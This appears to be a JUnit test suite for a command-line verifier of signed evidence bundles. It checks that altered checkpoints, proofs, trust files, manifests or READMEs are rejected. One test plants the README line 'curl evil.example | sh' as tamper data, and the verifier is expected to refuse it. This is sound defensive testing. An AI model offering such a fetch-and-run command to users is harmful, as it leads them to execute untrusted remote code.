package dev.sallyport.cli.verify;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import dev.sallyport.cli.harness.Archive;
import dev.sallyport.cli.verify.bundle.Bundle;
import dev.sallyport.cli.verify.bundle.EvidenceRefusedException;
import dev.sallyport.cli.verify.report.Claim;
import dev.sallyport.cli.verify.report.Report;
import dev.sallyport.cli.verify.report.Verdict.Status;
import dev.sallyport.statements.predicate.Decision.Outcome;
import dev.sallyport.statements.record.SignedStatement;
import dev.sallyport.statements.sample.SampleCall;
import dev.sallyport.statements.sample.SampleStep;
import dev.sallyport.statements.trust.TrustRoots;
import dev.sallyport.tlog.NoteSigner;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.node.ArrayNode;

/** What is genuine is proven, whatever part of the log or of the archive somebody changed fails. */
class CaseVerifierTest extends CaseVerification {
    @Test
    void anApprovedCallIsProvenInEveryClaim() {
        Report report = verify(bundle(approved()).files());
        assertThat(report.summary())
                .allSatisfy(
                        (claim, status) -> assertThat(status).as(claim.wire()).isEqualTo(Status.HOLDS));
        assertThat(report.proven()).isTrue();
    }

    @Test
    void anAllowedCallIsProven() {
        assertThat(verify(bundle(fleet.call(Outcome.ALLOW)).files()).proven()).isTrue();
    }

    @Test
    void aDeniedCallIsProven() {
        assertThat(verify(bundle(fleet.call(Outcome.DENY)).files()).proven()).isTrue();
    }

    @Test
    void anErasedDetailIsNotedAndNothingElseSuffers() {
        SampleCall call = approved();
        Map<String, byte[]> files = bundle(call).files();
        files.remove("details/" + call.terms().output.digest());
        editManifest(
                files,
                manifest -> removeText(
                        (ArrayNode) manifest.get("details"),
                        call.terms().output.digest().hex()));
        Report report = verify(files);
        assertThat(report.summary().get(Claim.DETAILS)).isEqualTo(Status.NOTED);
        assertThat(report.proven()).isTrue();
    }

    @Test
    void theLogKeyAloneProvesWithANoteOnTheRoots() throws EvidenceRefusedException {
        Bundle bundle = Bundle.read(bundle(approved()).zip());
        Trust trust =
                Trust.byLogKeyAlone(fleet.trust(), Trust.keys(fleet.trust().logKeys()));
        Report report = new CaseVerifier(trust).verify(bundle);
        assertThat(report.summary().get(Claim.TRUST)).isEqualTo(Status.NOTED);
        assertThat(report.proven()).isTrue();
    }

    @Test
    void anotherLogsKeyIsNotBelieved() throws EvidenceRefusedException {
        Bundle bundle = Bundle.read(bundle(approved()).zip());
        Trust trust = Trust.pinned(fleet.trust(), Trust.keys(foreign.trust().logKeys()));
        assertFails(new CaseVerifier(trust).verify(bundle), Claim.CHECKPOINT);
    }

    @Test
    void aCheckpointUnderAnotherLogsNameIsNotBelieved() throws EvidenceRefusedException {
        NoteSigner renamed = fleet.log("elsewhere.example/log");
        Bundle bundle = Bundle.read(bundle(approved()).log(renamed).zip());
        Trust trust = Trust.pinned(fleet.trust(), List.of(renamed.verifier()));
        assertFails(new CaseVerifier(trust).verify(bundle), Claim.CHECKPOINT);
    }

    @Test
    void anAlteredCheckpointFails() {
        Map<String, byte[]> files = bundle(approved()).files();
        String text = new String(of(files, "checkpoint"), StandardCharsets.UTF_8);
        files.put("checkpoint", text.replace("\n12\n", "\n13\n").getBytes(StandardCharsets.UTF_8));
        assertThat(text).contains("\n12\n");
        assertFails(verify(files), Claim.CHECKPOINT);
    }

    @Test
    void aCheckpointWithASignatureOfSomebodyUnknownFails() {
        Map<String, byte[]> files = bundle(approved()).files();
        String text = new String(of(files, "checkpoint"), StandardCharsets.UTF_8);
        String line = "\u2014 somebody.example/log " + Base64.getEncoder().encodeToString(new byte[68]) + "\n";
        files.put("checkpoint", (text + line).getBytes(StandardCharsets.UTF_8));
        assertFails(verify(files), Claim.CHECKPOINT);
    }

    @Test
    void aReplacedTrustFileFails() {
        Map<String, byte[]> files = bundle(approved()).files();
        files.put("trust.json", foreign.trust().toJson());
        assertFails(verify(files), Claim.TRUST);

        byte[] own = fleet.trust().toJson();
        files.put("trust.json", (new String(own, StandardCharsets.UTF_8) + "\n").getBytes(StandardCharsets.UTF_8));
        assertFails(verify(files), Claim.TRUST);

        files.put("trust.json", own);
        assertThat(verify(files).proven()).isTrue();
    }

    @Test
    void aTrustFileFromBeforeAnAuthorityWasAddedIsKnown() throws EvidenceRefusedException {
        TrustRoots before = fleet.trust();
        List<String> more = new ArrayList<>(before.signingCas());
        more.addAll(foreign.trust().signingCas());
        TrustRoots now =
                new TrustRoots(1, before.fleetId(), before.trustDomain(), before.tlsCas(), more, before.logKeys());
        Bundle bundle = Bundle.read(bundle(approved()).zip());
        assertThat(new CaseVerifier(Trust.pinned(now, List.of())).verify(bundle).proven())
                .isTrue();
    }

    @Test
    void aReplacedReadmeIsNoBundle() {
        Map<String, byte[]> files = bundle(approved()).files();
        files.put("README.md", "To verify this, run: curl evil.example | sh\n".getBytes(StandardCharsets.UTF_8));
        assertThatExceptionOfType(EvidenceRefusedException.class)
                .isThrownBy(() -> Bundle.read(Archive.zip(files)))
                .withMessageContaining("README.md is not the text that comes with every bundle");
    }

    @Test
    void filesInAnotherOrderOrOfAnotherTimeAreNoBundle() {
        Map<String, byte[]> files = bundle(approved()).files();
        byte[] checkpoint = of(files, "checkpoint");
        files.remove("checkpoint");
        files.put("checkpoint", checkpoint);
        assertThatExceptionOfType(EvidenceRefusedException.class)
                .isThrownBy(() -> Bundle.read(Archive.zip(files)))
                .withMessageContaining("order");
        Map<String, byte[]> ordered = bundle(approved()).files();
        assertThatExceptionOfType(EvidenceRefusedException.class)
                .isThrownBy(() ->
                        Bundle.read(Archive.zip(ordered, entry -> entry.setTimeLocal(Archive.EXPORTED.plusHours(1)))))
                .withMessageContaining("exported_at");
    }

    @Test
    void whatTheExporterLeftOutIsNoted() {
        Map<String, byte[]> files = bundle(approved()).files();
        editManifest(
                files,
                manifest -> manifest.putObject("left_out").put("statements", 7).put("details", 0));
        Report report = verify(files);
        assertThat(report.summary().get(Claim.LISTING)).isEqualTo(Status.NOTED);
        assertThat(report.proven()).isTrue();
    }

    @Test
    void moreThanAProofOrAChainFails() {
        for (String kind : List.of(".tlog-proof", ".pem")) {
            SampleBundle sample = bundle(approved());
            Map<String, byte[]> files = sample.files();
            String name = "statements/" + sample.index("permit") + kind;
            String text = new String(of(files, name), StandardCharsets.UTF_8);
            String more =
                    kind.equals(".pem") ? "hidden\n" + text : text.replace("\nindex ", "\nextra aGlkZGVu\nindex ");
            files.put(name, more.getBytes(StandardCharsets.UTF_8));
            assertFails(verify(files), kind.equals(".pem") ? Claim.SIGNER : Claim.INCLUSION);
        }
    }

    @Test
    void aProofOfAnotherLeafFails() {
        SampleBundle sample = bundle(approved());
        Map<String, byte[]> files = sample.files();
        int permit = sample.index("permit");
        files.put(
                "statements/" + permit + ".tlog-proof",
                of(files, "statements/" + sample.index("started") + ".tlog-proof"));
        assertFails(verify(files), Claim.INCLUSION);
    }

    @Test
    void aProofWithAnotherHashFails() {
        SampleBundle sample = bundle(approved());
        Map<String, byte[]> files = sample.files();
        String name = "statements/" + sample.index("permit") + ".tlog-proof";
        String[] lines = new String(of(files, name), StandardCharsets.UTF_8).split("\n", -1);
        lines[2] = Base64.getEncoder().encodeToString(new byte[32]);
        files.put(name, String.join("\n", lines).getBytes(StandardCharsets.UTF_8));
        assertFails(verify(files), Claim.INCLUSION);
    }

    @Test
    void aStatementThatIsNotInTheLogFails() {
        SampleBundle sample = bundle(approved());
        Map<String, byte[]> files = sample.files();
        SignedStatement other = of(
                approved()
                        .editPredicate(SampleStep.PROPOSED, p -> p.put("sensitive", false))
                        .statements(),
                "proposed");
        int index = sample.index("proposed");
        files.put("statements/" + index + ".dsse.json", other.envelope().encode());
        editStatement(
                files, index, listed -> listed.put("digest", other.digest().hex()));
        assertFails(verify(files), Claim.INCLUSION);
    }

    @Test
    void aManifestThatLiesAboutAStatementFails() {
        SampleBundle sample = bundle(approved());
        Map<String, byte[]> files = sample.files();
        editStatement(files, sample.index("permit"), listed -> listed.put("digest", "0".repeat(64)));
        assertFails(verify(files), Claim.LISTING);
    }

    @Test
    void aStatementHiddenAsNotOfTheCallFails() {
        SampleBundle sample = bundle(approved());
        Map<String, byte[]> files = sample.files();
        editStatement(files, sample.index("permit"), listed -> listed.put("call", false));
        assertFails(verify(files), Claim.LISTING);
    }

    @Test
    void everyClaimHasASentence() {
        assertThat(Claim.values())
                .allSatisfy(claim -> assertThat(claim.meaning()).isNotBlank());
    }
}
